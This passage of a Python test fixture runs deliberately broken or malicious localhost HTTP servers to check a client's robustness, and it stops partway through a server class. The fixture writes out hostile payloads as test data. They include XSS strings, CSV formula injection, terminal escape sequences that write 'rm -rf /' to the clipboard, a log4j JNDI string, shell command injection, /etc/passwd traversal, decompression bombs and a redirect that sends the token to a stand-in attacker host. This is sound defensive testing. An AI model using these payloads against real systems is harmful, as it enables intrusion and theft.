"""Owns servers that are broken or mean: raw octets from asyncio sockets, one named mode each.

`python -m tests.meta.hostile_server MODE` serves one until its input ends. It must not know the suite under test.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import gzip
import itertools
import json
import socket
import ssl
import struct
import sys
import threading
import zlib
from collections import deque
from dataclasses import dataclass, field
from functools import cache
from typing import TYPE_CHECKING, Final, Self, TypeAlias
from urllib.parse import quote

if TYPE_CHECKING:
    from collections.abc import Awaitable, Callable, Coroutine, Iterator
    from pathlib import Path

TOKEN: Final = "zQ7w_live_Kp93+Xv/84mTb~Yd62hR"  # noqa: S105 - it opens nothing
"""The token with which hostile servers are asked, and which they give away where they can."""
REAL: Final = b"ref-k3n8q5w2x7"
"""What the reference server takes in its place."""
PLAIN: Final = {
    "id": "inv_000000000000000000000001",
    "contract": "c",
    "status": "DRAFT",
    "invoiceNumber": "1",
    "exchangeRate": 1,
    "currencyCode": "EUR",
    "amountMinor": 1,
    "issuedAt": None,
    "dueAt": None,
    "paidAt": None,
    "createdAt": "2020-01-01T00:00:00.000Z",
    "updatedAt": "2020-01-01T00:00:00.000Z",
}


@dataclass
class State:
    """What the connections of one server share."""

    upstream: int = 0
    """The port of a server that answers properly, for the modes that only sometimes do not."""
    connections: int = 0
    requests: int = 0
    elsewhere: list[bytes] = field(default_factory=list)
    """What arrived at the other origin that a redirect names."""
    elsewhere_port: int = 0
    moments: deque[float] = field(default_factory=deque)
    """When requests were let through, where they are counted."""
    kept: dict[str, object] = field(default_factory=dict)
    """What a mode remembers."""


class Client:
    """One accepted connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, state: State) -> None:
        self.reader, self.writer, self.state = reader, writer, state
        self.number = state.connections
        state.connections += 1

    async def request(self) -> bytes:
        """Read one whole request; nothing when the client has gone."""
        try:
            head = await self.reader.readuntil(b"\r\n\r\n")
            fields = head.lower()
            if b"\r\nexpect: 100-continue" in fields:
                await self.send(b"HTTP/1.1 100 Continue\r\n\r\n")
            if b"transfer-encoding: chunked" in fields:
                body = b""
                while not body.endswith(b"0\r\n\r\n"):
                    body += await self.reader.readuntil(b"\r\n")
            else:
                length = fields.partition(b"content-length:")[2].partition(b"\r\n")[0].strip()
                body = await self.reader.readexactly(int(length)) if length.isdigit() else b""
        except (asyncio.IncompleteReadError, asyncio.LimitOverrunError):
            return b""
        self.state.requests += 1
        return head + body

    async def send(self, octets: bytes) -> None:
        """Send `octets` as they are."""
        self.writer.write(octets)
        await self.writer.drain()

    async def forever(self, octets: bytes, pause: float = 0.0) -> None:
        """Send `octets` again and again, until the client has had enough."""
        while True:
            await self.send(octets)
            await asyncio.sleep(pause)

    def reset(self) -> None:
        """End the connection with a reset in place of an orderly close."""
        raw = self.writer.get_extra_info("socket")
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self.writer.transport.abort()

    async def properly(self, request: bytes) -> bytes:
        """The answer of the server that answers properly; its framing is Content-Length."""
        reader, writer = await asyncio.open_connection("127.0.0.1", self.state.upstream)
        try:
            head, split, body = request.partition(b"\r\n\r\n")
            writer.write(head.replace(TOKEN.encode(), REAL) + b"\r\nConnection: close" + split + body)
            await writer.drain()
            answer = await reader.read()
        finally:
            writer.close()
        if b"connection: close" in head.lower():
            return answer
        said, split, body = answer.partition(b"\r\n\r\n")
        if b"content-length" not in said.lower() and said[9:12] not in {b"204", b"304"}:
            answer = said + b"\r\nContent-Length: %d" % len(body) + split + body
        return answer.replace(b"connection: close\r\n", b"").replace(b"Connection: close\r\n", b"")


Handler: TypeAlias = "Callable[[Client], Awaitable[None]]"
MODES: Final[dict[str, Handler]] = {}


def mode(name: str) -> Callable[[Handler], Handler]:
    """Register what a mode does with each connection."""

    def register(handler: Handler) -> Handler:
        MODES[name] = handler
        return handler

    return register


def answer(body: bytes = b"{}", status: str = "201 Created", *fields: str | bytes, length: int | None = None) -> bytes:
    """A plain answer."""
    lines = [f"HTTP/1.1 {status}".encode("latin-1")]
    lines += [line if isinstance(line, bytes) else line.encode("latin-1") for line in fields]
    lines += [b"Content-Length: %d" % (len(body) if length is None else length), b"", body]
    return b"\r\n".join(lines)


def created(*fields: str | bytes, line: str = "201 Created", **members: object) -> bytes:
    """An answer that looks like a success."""
    body = json.dumps({"data": PLAIN | members}, ensure_ascii=False).encode("utf-8", errors="surrogatepass")
    return answer(body, line, "Content-Type: application/json", *fields)


def always(name: str, octets: bytes | Callable[[bytes], bytes], *, close: bool = False) -> None:
    """Register a mode that answers every request so."""

    async def handler(client: Client) -> None:
        while request := await client.request():
            await client.send(octets if isinstance(octets, bytes) else octets(request))
            if close:
                return

    MODES[name] = handler


# Connections


@mode("connect-refused")
async def _never(_client: Client) -> None:
    """The port is closed before anybody comes (see `HostileServer`)."""


@mode("connect-never-accepted")
async def _unaccepted(_client: Client) -> None:
    """Connections wait in the system's queue for ever (see `HostileServer`)."""


@mode("connect-never-read")
async def _unread(client: Client) -> None:
    client.reader._transport.pause_reading()  # type: ignore[attr-defined]  # noqa: SLF001 - asyncio has no other way
    await asyncio.sleep(3600)


@mode("connect-closed-at-accept")
async def _closed(_client: Client) -> None:
    return


@mode("connect-reset-at-accept")
async def _reset(client: Client) -> None:
    client.reset()


@mode("connect-closed-after-request")
async def _closed_after(client: Client) -> None:
    await client.request()


@mode("connect-reset-after-request")
async def _reset_after(client: Client) -> None:
    await client.request()
    client.reset()


@mode("connect-slow-accept")
async def _slow_accept(client: Client) -> None:
    await asyncio.sleep(0.2)
    await _relay(client)


@mode("connect-one-request-each")
async def _one_each(client: Client) -> None:
    if request := await client.request():
        await client.send(await client.properly(request))


async def _relay(client: Client) -> None:
    while request := await client.request():
        await client.send(await client.properly(request))


MODES["healthy"] = _relay


# TLS: the certificate is the server's, what comes after the handshake is a healthy server


for _name in (
    "tls-self-signed",
    "tls-expired",
    "tls-not-yet-valid",
    "tls-wrong-host",
    "tls-unknown-authority",
    "tls-client-certificate-wanted",
    "tls-trusted",
):
    MODES[_name] = _relay


@mode("tls-wanted-on-plain-port")
async def _plain(client: Client) -> None:
    await client.reader.read(10)
    await client.send(answer(b"", "400 Bad Request"))


@mode("tls-url-is-http")
async def _alert(client: Client) -> None:
    await client.reader.read(10)
    await client.send(b"\x15\x03\x01\x00\x02\x02\x46")


@mode("tls-handshake-hangs")
async def _handshake_hangs(client: Client) -> None:
    await client.reader.read(10)
    await asyncio.sleep(3600)


@mode("tls-handshake-closed")
async def _handshake_closed(client: Client) -> None:
    await client.reader.read(10)


@mode("tls-handshake-garbage")
async def _handshake_garbage(client: Client) -> None:
    await client.reader.read(10)
    await client.forever(b"\x16\x03\x03\xff\xff" + b"\xff" * 1000)


@mode("tls-cut-in-body")
async def _tls_cut(client: Client) -> None:
    if await client.request():
        await client.send(answer(b'{"data":', length=1000))
        client.writer.transport.abort()


# Time


@mode("time-head-drips")
async def _drips(client: Client) -> None:
    await client.request()
    for octet in itertools.cycle(b"HTTP/1.1 201 Created\r\nX: " + b"y" * 200):
        await client.send(bytes([octet]))
        await asyncio.sleep(0.2)


@mode("time-body-drips")
async def _body_drips(client: Client) -> None:
    await client.request()
    await client.send(answer(b"", length=10_000))
    await client.forever(b" ", 0.2)


@mode("time-chunks-drip")
async def _chunks_drip(client: Client) -> None:
    await client.request()
    await client.send(b"HTTP/1.1 201 Created\r\nTransfer-Encoding: chunked\r\n\r\n")
    await client.forever(b"1\r\n \r\n", 0.2)


@mode("time-head-never-ends")
async def _head_hangs(client: Client) -> None:
    await client.request()
    await client.send(b"HTTP/1.1 201 Created\r\nContent-Type: application/json\r\n")
    await asyncio.sleep(3600)


@mode("time-body-never-ends")
async def _body_hangs(client: Client) -> None:
    await client.request()
    await client.send(answer(b'{"data":', length=100))
    await asyncio.sleep(3600)


@mode("time-first-byte-slow")
async def _slow_first(client: Client) -> None:
    await client.request()
    await asyncio.sleep(30)


@mode("time-interim-forever")
async def _interim(client: Client) -> None:
    await client.request()
    await client.forever(b"HTTP/1.1 100 Continue\r\n\r\n", 0.01)


@mode("time-interim-at-once")
async def _interim_flood(client: Client) -> None:
    await client.request()
    await client.forever(b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" * 1000)


@mode("time-interim-slow")
async def _interim_slow(client: Client) -> None:
    await client.request()
    await client.forever(b"HTTP/1.1 102 Processing\r\n\r\n", 0.3)


# Framing

CHUNKED: Final = b"HTTP/1.1 201 Created\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
BODY: Final = json.dumps({"data": PLAIN}).encode()
OK: Final = created()
for _name, _octets in {
    "framing-chunk-size-bad": CHUNKED + b"zz\r\n{}\r\n0\r\n\r\n",
    "framing-chunk-size-huge": CHUNKED + b"ffffffffffffffffff\r\n" + BODY,
    "framing-chunk-size-negative": CHUNKED + b"-5\r\n" + BODY,
    "framing-chunk-without-end": CHUNKED + b"2\r\n{}xx0\r\n\r\n",
    "framing-chunks-cut": CHUNKED + b"ff\r\n{}",
    "framing-length-too-long": answer(BODY, length=len(BODY) + 10),
    "framing-length-negative": answer(BODY, length=-1),
    "framing-length-not-a-number": OK.replace(b"Content-Length: ", b"Content-Length: x"),
    "framing-length-huge": answer(BODY, length=10**30),
    "framing-two-lengths": OK.replace(b"Content-Length", b"Content-Length: 5\r\nContent-Length"),
    "framing-length-and-chunks": OK.replace(b"Content-Length", b"Transfer-Encoding: chunked\r\nContent-Length"),
    "framing-http-0.9": b'{"data":{}}',
    "framing-http-2": b"\x00\x00\x12\x04\x00\x00\x00\x00\x00\x00\x03\x00\x00\x00\x64",
    "framing-http-9.9": OK.replace(b"HTTP/1.1", b"HTTP/9.9"),
    "framing-status-of-two-digits": OK.replace(b"201", b"20"),
    "framing-status-of-words": OK.replace(b"201", b"yes"),
    "framing-space-before-colon": OK.replace(b"Content-Type:", b"Content-Type :"),
    "framing-nul-in-head": OK.replace(b"application", b"app\0lication"),
    "framing-empty-line-only": b"\r\n\r\n",
    "framing-garbage": bytes(range(256)) * 40,
    "framing-ssh": b"SSH-2.0-OpenSSH_9.6\r\n\r\n",
    "framing-smtp": b"220 mail.example ESMTP\r\n500 what\r\n",
}.items():
    always(_name, _octets, close=True)
for _name, _octets in {
    "framing-length-too-short": answer(BODY, "201 Created", "Content-Type: application/json", length=len(BODY) - 5),
    "framing-second-answer": OK + OK,
    "framing-surplus": OK + b"surplus" * 100,
    "framing-folded-field": OK.replace(b"\r\nContent-Length", b"\r\nX-Folded: a\r\n b\r\nContent-Length"),
    "framing-bare-line-feeds": OK.replace(b"\r\n", b"\n"),
    "framing-no-reason": OK.replace(b"201 Created", b"201"),
}.items():
    always(_name, _octets)


@mode("framing-answer-before-request")
async def _early(client: Client) -> None:
    await client.send(OK)
    while await client.request():
        await client.send(OK)


@mode("framing-late-second-answer")
async def _late(client: Client) -> None:
    while await client.request():
        await client.send(OK)
        await asyncio.sleep(0.05)
        await client.send(answer(b"{}", "500 Late"))


# Size


@mode("size-head-huge")
async def _head_huge(client: Client) -> None:
    await client.request()
    await client.send(b"HTTP/1.1 201 Created\r\nX: ")
    await client.forever(b"y" * 65536)


@mode("size-million-fields")
async def _fields(client: Client) -> None:
    await client.request()
    await client.send(b"HTTP/1.1 201 Created\r\n")
    await client.forever(b"X: y\r\n" * 10_000)


@mode("size-body-endless")
async def _endless(client: Client) -> None:
    await client.request()
    await client.send(answer(b"", length=10**12))
    await client.forever(b" " * 65536)


@mode("size-chunks-endless")
async def _chunks_endless(client: Client) -> None:
    await client.request()
    await client.send(CHUNKED)
    await client.forever(b"1\r\n \r\n" * 10_000)


@mode("size-trailers-endless")
async def _trailers(client: Client) -> None:
    await client.request()
    await client.send(CHUNKED + b"2\r\n{}\r\n0\r\n")
    await client.forever(b"X: y\r\n" * 10_000)


@mode("size-until-close")
async def _until_close(client: Client) -> None:
    await client.request()
    await client.send(b"HTTP/1.1 201 Created\r\nContent-Type: application/json\r\n\r\n")
    await client.forever(b" " * 65536)


@cache
def bomb(wbits: int) -> bytes:
    """A hundred megabytes of blanks, compressed."""
    packer = zlib.compressobj(9, wbits=wbits)
    zeros = b" " * 1_000_000
    return b"".join(packer.compress(zeros) for _ in range(100)) + packer.flush()


always("size-hundred-and-one-fields", lambda _: created(*[f"X-{number}: y" for number in range(101)]))
always("size-chunk-extension-huge", CHUNKED + b"2;" + b"x" * 100_000 + b"\r\n{}\r\n0\r\n\r\n")
always("size-megabyte-each", lambda _: created(x="y" * 900_000))
always("size-fields-of-60-k", lambda _: created(f"X-Long: {'y' * 60_000}"))


@mode("size-gzip-bomb")
async def _gzip_bomb(client: Client) -> None:
    packed = bomb(31)
    while await client.request():
        await client.send(answer(packed, "201 Created", "Content-Type: application/json", "Content-Encoding: gzip"))


@mode("size-deflate-bomb")
async def _deflate_bomb(client: Client) -> None:
    packed = bomb(15)
    while await client.request():
        await client.send(answer(packed, "201 Created", "Content-Type: application/json", "Content-Encoding: deflate"))


# Encodings

JSON: Final = "Content-Type: application/json"
always("encoding-invalid-utf-8", answer(BODY.replace(b"DRAFT", b"\xff\xfe\xc3\x28"), "201 Created", JSON))
always("encoding-utf-16", answer(BODY.decode().encode("utf-16"), "201 Created", JSON))
always("encoding-utf-32", answer(BODY.decode().encode("utf-32"), "201 Created", JSON))
always("encoding-latin-1", answer(BODY.replace(b"DRAFT", b"\xe9\xe8"), "201 Created", JSON + "; charset=latin-1"))
always("encoding-bom", answer(b"\xef\xbb\xbf" + BODY, "201 Created", JSON))
always("encoding-unknown", answer(BODY, "201 Created", JSON, "Content-Encoding: br"))
always("encoding-not-gzip", answer(BODY, "201 Created", JSON, "Content-Encoding: gzip"))
always("encoding-gzip-cut", answer(gzip.compress(BODY)[:-12], "201 Created", JSON, "Content-Encoding: gzip"))
always("encoding-gzip-twice", answer(gzip.compress(gzip.compress(BODY)), "201 Created", JSON, "Content-Encoding: gzip"))
always("encoding-gzip", answer(gzip.compress(BODY), "201 Created", JSON, "Content-Encoding: gzip"))
always("encoding-raw-deflate", answer(zlib.compress(BODY)[2:-4], "201 Created", JSON, "Content-Encoding: deflate"))
always("encoding-unknown-charset", answer(BODY, "201 Created", JSON + "; charset=klingon"))

# Statuses

STATUSES: Final = {
    "101 Switching Protocols": (),
    "204 No Content": (),
    "205 Reset Content": (),
    "206 Partial Content": ("Content-Range: bytes 0-1/9",),
    "299 Fine": (),
    "304 Not Modified": (),
    "400 Bad Request": (),
    "401 Unauthorized": ("WWW-Authenticate: Bearer",),
    "403 Forbidden": ("Content-Type: text/html",),
    "404 Not Found": ("Content-Type: text/html",),
    "405 Method Not Allowed": ("Allow: GET",),
    "407 Proxy Authentication Required": ('Proxy-Authenticate: Basic realm="p"',),
    "408 Request Timeout": (),
    "415 Unsupported Media Type": (),
    "418 I'm a teapot": (),
    "421 Misdirected Request": (),
    "426 Upgrade Required": ("Upgrade: TLS/1.3",),
    "431 Request Header Fields Too Large": (),
    "451 Unavailable For Legal Reasons": (),
    "500 Internal Server Error": (),
    "502 Bad Gateway": ("Content-Type: text/html",),
    "503 Service Unavailable": (),
    "504 Gateway Timeout": (),
    "511 Network Authentication Required": ("Content-Type: text/html",),
    "600 Beyond": (),
    "999 Denied": (),
}
PAGE: Final = b"<!DOCTYPE html><html><head><title>Access \x1b[31mdenied</title></head><body>no</body></html>"
for _status, _named in STATUSES.items():
    _body = b"" if _status[:3] in {"101", "204", "304"} else PAGE if "Content-Type: text/html" in _named else b"{}"
    always(f"status-{_status[:3]}", answer(_body, _status, *_named))
for _name, _after in {
    "seconds": "1",
    "date": "Sun, 06 Nov 1994 08:49:37 GMT",
    "garbage": "soon",
    "huge": "1" + "0" * 9,
}.items():
    always(f"status-429-{_name}", answer(b"{}", "429 Too Many Requests", f"Retry-After: {_after}"))
always(
    "status-401-basic",
    answer(PAGE, "401 Unauthorized", 'WWW-Authenticate: Basic realm="proxy"', "Content-Type: text/html"),
)
always("status-404-json", answer(b'{"error":"no"}', "404 Not Found", JSON))
always(
    "status-404-contract",
    lambda request: answer(b"{}", "422 No") if request.endswith(b"\r\n\r\n{}") else answer(b"{}", "404 No"),
)
always("status-422-contract", answer(b'{"error":"unknown contract"}', "422 Unprocessable", JSON))
always("status-200-page", answer(PAGE, "200 OK", "Content-Type: text/html"))
always(
    "status-200-rejected",
    answer(b"<html><body>The requested URL was rejected.</body></html>", "200 OK", "Content-Type: text/html"),
)
always("status-201-empty", answer(b"", "201 Created"))

# Redirects


def _redirecting(name: str, location: Callable[[State], str], status: str = "307 Temporary Redirect") -> None:
    async def handler(client: Client) -> None:
        while await client.request():
            await client.send(answer(b"", status, f"Location: {location(client.state)}"))

    MODES[name] = handler


_redirecting("redirect-loop", lambda _state: "/api/v1/invoices")
_redirecting("redirect-to-another-host", lambda state: f"http://localhost:{state.elsewhere_port}/api/v1/invoices")
_redirecting("redirect-308", lambda state: f"http://localhost:{state.elsewhere_port}/x", "308 Permanent Redirect")
_redirecting("redirect-301", lambda state: f"//localhost:{state.elsewhere_port}/x", "301 Moved Permanently")
_redirecting("redirect-302-sign-in", lambda _state: "https://sso.example/login?next=%2Fapi", "302 Found")
_redirecting("redirect-to-javascript", lambda _state: "javascript:alert(1)")
_redirecting("redirect-to-file", lambda _state: "file:///etc/passwd")
_redirecting("redirect-unreadable", lambda _state: "http://[::1]]:99999999/\\\xff")
_redirecting("redirect-of-50-k", lambda _state: "http://h/" + "x" * 50_000)
_redirecting("redirect-nowhere", lambda _state: "")

# JSON

for _name, _text in {
    "deep-arrays": b"[" * 400_000,
    "deep-objects": b'{"data":' * 100_000,
    "deep-and-closed": b'{"data":' + b"[" * 50_000 + b"]" * 50_000 + b"}",
    "million-digits": BODY.replace(b'"amountMinor": 1', b'"amountMinor": ' + b"9" * 900_000),
    "exponent-huge": BODY.replace(b'"amountMinor": 1', b'"amountMinor": 1e999999999999'),
    "rate-huge": BODY.replace(b'"exchangeRate": 1', b'"exchangeRate": 1e-' + b"9" * 100_000),
    "nan": BODY.replace(b'"exchangeRate": 1', b'"exchangeRate": NaN'),
    "infinity": BODY.replace(b'"exchangeRate": 1', b'"exchangeRate": -Infinity'),
    "duplicate-members": BODY[:-2] + b', "id": "other"}}',
    "many-duplicates": BODY[:-2] + b', "id": "o"' * 50_000 + b"}}",
    "null": b"null",
    "number": b"17",
    "string": b'"created"',
    "array": b"[]",
    "data-is-array": b'{"data":[]}',
    "data-is-null": b'{"data":null}',
    "two-documents": BODY + BODY,
    "lone-surrogates": BODY.replace(b"DRAFT", b"\\ud800\\udfff\\udc00"),
    "nul-in-text": BODY.replace(b"DRAFT", b"\\u0000"),
    "empty": b"",
    "blank": b" " * 1000,
    "unfinished": BODY[:-10],
    "members-of-other-types": b'{"data":{"id":{},"contract":[],"status":1,"invoiceNumber":true,"exchangeRate":"x",'
    b'"currencyCode":null,"amountMinor":{"a":[]},"createdAt":9e99,"updatedAt":[[]]}}',
    "dates-of-odd-length": BODY.replace(b"2020-01-01T00:00:00.000Z", b"2020-01-01T00:00:00." + b"9" * 100_000 + b"Z"),
    "id-of-a-megabyte": BODY.replace(b"inv_", b"i" * 900_000),
}.items():
    always(f"json-{_name}", answer(_text, "201 Created", JSON))

# Injection: the same words wherever a report may show them

INJECTIONS: Final = {
    "terminal": "\x1b[2J\x1b[31mred\x1b[0m\x07\x08\x7f",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
    "clipboard": "\x1b]52;c;cm0gLXJmIC8=\x07",
    "c1-controls": "\x9b31m\x9d52;c;eA==\x9c\x85",
    "carriage-return": "bad\rgood\x0b\x0c",
    "bidi": "\u202eexe.txt\u202c\u2066\u200f\u2028\u2029\ufeff",
    "github": "x\n::error file=a.py,line=1::owned\n::set-output name=a::b\n::add-mask::x",
    "azure": "x ##[error]owned ##vso[task.setvariable variable=a]b ##teamcity[x]",
    "xml": "\x00\x01\x0b\ufffe\uffff]]><!--",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>\"'><svg/onload=alert(1)>",
    "csv": '=HYPERLINK("http://evil.example","x")',
    "csv-space": ' =cmd|" /C calc"!A0',
    "csv-full-width": "＝1+1",
    "path": "../../../../etc/passwd\\..\\..\\x",
    "markup": "[red]x[/red][link=http://evil]y[/link][/nothing][bold",
    "markdown": "| a | [x](http://evil) | ![y](http://evil) | `</details>` |\n# owned\n\n---",
    "format": "%s%n%x{0}{self.__class__}${jndi:ldap://evil}$(id)`id`",
    "quote": "'; touch owned; echo '",
    "long": "A" * 200_000,
    "combining": "Z\u0363\u0334" * 5000,
    "private": "\ue000\U000f0000\U0010ffff\U000e0041",
}


def injecting(words: str) -> Callable[[bytes], bytes]:
    """Answers that hold `words` wherever a report may show them."""
    plain = words.encode("utf-8", errors="surrogatepass")
    field_value = plain.translate(None, b"\0\r\n\x0b\x0c").strip()[:20_000]
    turn = itertools.count()

    def answered(request: bytes) -> bytes:
        fields = (b"X-Injected: " + field_value, b"Location: " + field_value)
        if b'"amountMinor": 5000' not in request and b'"amountMinor":5000' not in request and next(turn) % 2:
            reason = "422 " + field_value[:200].decode("latin-1")
            body = json.dumps({words: words}, ensure_ascii=False).encode("utf-8", errors="surrogatepass")
            return answer(body if next(turn) % 3 else plain, reason, JSON, *fields)
        return created(*fields, id=words + str(next(turn)), status=words, contract=words, currencyCode=words)

    return answered


for _name, _words in INJECTIONS.items():
    always(f"inject-{_name}", injecting(_words))
always("inject-refusal", answer(json.dumps(INJECTIONS).encode(), "400 \x1b[31m##[error]no", JSON))
always("inject-html-title", answer(PAGE.replace(b"Access", b"[red]::error::"), "200 OK", "Content-Type: text/html"))

# Echoes of the token

B64: Final = base64.b64encode(TOKEN.encode()).decode()
ECHOES: Final[dict[str, bytes]] = {
    "plain": created(status=f"seen {TOKEN}"),
    "base64": created(status=B64, contract=base64.b64encode(f"Bearer {TOKEN}".encode()).decode()),
    "base64-of-json": created(
        status=base64.b64encode(json.dumps({"authorization": f"Bearer {TOKEN}"}).encode()).decode()
    ),
    "percent": created(status=quote(TOKEN, safe=""), contract="".join(f"%{octet:02x}" for octet in TOKEN.encode())),
    "json-escaped": answer(
        json.dumps({"data": PLAIN}).replace("DRAFT", "".join(f"\\u{ord(letter):04x}" for letter in TOKEN)).encode(),
        "201 Created",
        JSON,
    ),
    "html-escaped": created(status="".join(f"&#{ord(letter)};" for letter in TOKEN)),
    "hex": created(status=TOKEN.encode().hex(), contract=TOKEN.encode().hex().upper()),
    "split-over-fields": created(f"X-A: {TOKEN[:15]}", f"X-B: {TOKEN[15:]}"),
    "field": created(f"X-Echo: Bearer {TOKEN}", f"Set-Cookie: session={TOKEN}"),
    "field-name": created(f"{TOKEN.replace('/', '').replace('+', '')}: 1", f"X-{B64.rstrip('=')}: 1"),
    "location": created(f"Location: https://h/?access_token={quote(TOKEN, safe='')}#{TOKEN}"),
    "reason": created(line=f"201 {TOKEN}"),
    "wrapped": created(status="\n".join(TOKEN[start : start + 10] for start in range(0, len(TOKEN), 10))),
    "base64-wrapped": created(status="\r\n".join(B64[start : start + 12] for start in range(0, len(B64), 12))),
    "gzip": answer(
        gzip.compress(BODY.replace(b"DRAFT", TOKEN.encode())), "201 Created", JSON, "Content-Encoding: gzip"
    ),
    "gzip-unnamed": answer(gzip.compress(TOKEN.encode()), "201 Created", JSON),
    "raw-deflate": answer(zlib.compress(TOKEN.encode())[2:-4], "201 Created", JSON, "Content-Encoding: deflate"),
    "utf-16": answer(BODY.replace(b"DRAFT", TOKEN.encode()).decode().encode("utf-16"), "201 Created", JSON),
    "id": created(id=TOKEN),
    "id-and-formula": created(id=f"={TOKEN}"),
    "thousand-times": created(status=TOKEN * 10_000),
    "error-500": answer(f"Traceback: KeyError {TOKEN!r}".encode(), "500 Oops", "Content-Type: text/plain"),
    "refused-401": answer(
        f"unknown token {TOKEN}".encode(), f"401 {TOKEN}", f'WWW-Authenticate: Bearer realm="{TOKEN}"'
    ),
    "redirect": answer(b"", "302 Found", f"Location: https://evil.example/?t={TOKEN}"),
    "not-http": f"{TOKEN} {TOKEN}\r\n\r\n".encode(),
    "bad-field": OK.replace(b"Content-Type:", f"X {TOKEN} :".encode()),
    "bad-length": OK.replace(b"Content-Length: ", f"Content-Length: {TOKEN}".encode()),
    "surplus": OK + f"HTTP/1.1 200 {TOKEN}\r\n\r\n{TOKEN}".encode(),
    "trailers": CHUNKED + b"%x\r\n%b\r\n0\r\nX-T: %b\r\n\r\n" % (len(BODY), BODY, TOKEN.encode()),
    "json-in-json": created(status=json.dumps(json.dumps(f'"{TOKEN}"'))),
    "cut-at-the-limit": answer(b" " * (1024 * 1024 - 12) + TOKEN.encode() * 5, "201 Created", JSON),
}
for _name, _octets in ECHOES.items():
    always(f"echo-{_name}", _octets)


@mode("echo-whole-request")
async def _echo(client: Client) -> None:
    while request := await client.request():
        await client.send(answer(request, "201 Created", "Content-Type: message/http"))


# State: what answers properly, but not always


def _sometimes(name: str, trouble: Callable[[Client, int], Awaitable[bool]]) -> None:
    """Register a mode that relays, unless `trouble` deals with the request of this number and says to hang up."""

    async def handler(client: Client) -> None:
        while request := await client.request():
            number = client.state.requests
            if await trouble(client, number):
                return
            if not client.writer.is_closing():
                await client.send(await client.properly(request))

    MODES[name] = handler


async def _reset_every_third(client: Client, number: int) -> bool:
    if number > 1 and number % 3 == 0:
        client.reset()
        return True
    return False


async def _close_every_third(_client: Client, number: int) -> bool:
    return number > 1 and number % 3 == 0


async def _hang_every_third(client: Client, number: int) -> bool:
    if number > 1 and number % 3 == 0:
        await asyncio.sleep(3600)
    return client.writer.is_closing()


async def _gone_after(client: Client, number: int) -> bool:
    if number > 30:
        client.reset()
        return True
    return False


async def _slower(_client: Client, number: int) -> bool:
    await asyncio.sleep(min(number * 0.002, 5))
    return False


_sometimes("state-reset-one-in-three", _reset_every_third)
_sometimes("state-close-one-in-three", _close_every_third)
_sometimes("state-hang-one-in-three", _hang_every_third)
_sometimes("state-reset-after-30", _gone_after)
_sometimes("state-slower-and-slower", _slower)


def answering_when(name: str, when: Callable[[State], bool], octets: bytes) -> None:
    """Register a mode that relays, but answers so when the state is such."""

    async def handler(client: Client) -> None:
        while request := await client.request():
            await client.send(octets if when(client.state) else await client.properly(request))

    MODES[name] = handler


UNAVAILABLE: Final = answer(b"", "503 Service Unavailable")
answering_when("state-503-one-in-three", lambda state: state.requests > 1 and state.requests % 3 == 0, UNAVAILABLE)
answering_when("state-503-after-30", lambda state: state.requests > 30, UNAVAILABLE)
answering_when("state-503-for-a-while", lambda state: 30 < state.requests <= 60, UNAVAILABLE)
answering_when("state-500-after-30", lambda state: state.requests > 30, answer(b"{}", "500 Oops", JSON))
answering_when(
    "state-401-after-30",
    lambda state: state.requests > 30,
    answer(b"", "401 Unauthorized", "WWW-Authenticate: Bearer"),
)
answering_when(
    "state-page-after-30",
    lambda state: state.requests > 30,
    answer(PAGE, "403 Forbidden", "Content-Type: text/html"),
)
answering_when(
    "state-sign-in-after-30",
    lambda state: state.requests > 30,
    answer(b"", "302 Found", "Location: https://sso.example/login"),
)
answering_when(
    "state-429-one-in-five",
    lambda state: state.requests > 1 and state.requests % 5 == 0,
    answer(b"", "429 Too Many Requests", "Retry-After: 0"),
)
MODES["state-away-and-back"] = _relay
MODES["state-starts-late"] = _relay
MODES["state-gone-after-30"] = _relay

AWAY_AFTER: Final = 30
"""Requests after which the modes that close their port do."""


class HostileServer:
    """One mode on a free port of 127.0.0.1, for the length of a `with` block."""

    def __init__(self, name: str, *, upstream: str = "", certificates: Path | None = None) -> None:
        self.name = name
        self.state = State(upstream=int(upstream.rpartition(":")[2] or 0))
        self._context = _context(name, certificates)
        self._loop = asyncio.new_event_loop()
        self._loop.set_exception_handler(lambda _loop, _context: None)
        self._thread = threading.Thread(target=self._loop.run_forever, name=f"hostile-{name}")
        self._listening: list[asyncio.Server] = []
        self._socket: socket.socket | None = None
        self._tasks: set[asyncio.Task[None]] = set()
        self._port = 0

    @property
    def url(self) -> str:
        """The base URL to judge it by."""
        secure = self.name.startswith("tls-") and self.name != "tls-url-is-http"
        host = "localhost" if self.name == "tls-wrong-host" else "127.0.0.1"
        return f"http{'s' if secure else ''}://{host}:{self._port}"

    def __enter__(self) -> Self:
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._open(), self._loop).result()
        return self

    def __exit__(self, *_: object) -> None:
        asyncio.run_coroutine_threadsafe(self._close(), self._loop).result()
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join()
        self._loop.close()

    async def _open(self) -> None:
        if "-bomb" in self.name or self.name == "size-ten-codings":
            bomb(15 if "deflate" in self.name else 31)
        other = await asyncio.start_server(self._elsewhere, "127.0.0.1", 0)
        self._listening.append(other)
        self.state.elsewhere_port = other.sockets[0].getsockname()[1]
        if self.name in {"connect-never-accepted", "connect-refused", "state-starts-late"}:
            self._socket = socket.create_server(("127.0.0.1", 0))
            self._port = self._socket.getsockname()[1]
            if self.name == "connect-never-accepted":
                return
            self._socket.close()
            if self.name == "state-starts-late":
                self._keep(self._later(1.5))
            return
        await self._listen()
        if self.name in {"state-away-and-back", "state-gone-after-30"}:
            self._keep(self._away())

    async def _listen(self) -> None:
        server = await asyncio.start_server(self._serve, "127.0.0.1", self._port, ssl=self._context, limit=2**24)
        self._listening.append(server)
        self._port = server.sockets[0].getsockname()[1]

    async def _later(self, seconds: float) -> None:
        await asyncio.sleep(seconds)
        await self._listen()

    async def _away(self) -> None:
        while self.state.requests < AWAY_AFTER:  # noqa: ASYNC110 - the counter is everybody's
            await asyncio.sleep(0.002)
        self._listening.pop().close()
        for task in self._tasks - {asyncio.current_task()}:
            task.cancel()
        if self.name == "state-away-and-back":
            await self._later(1.5)

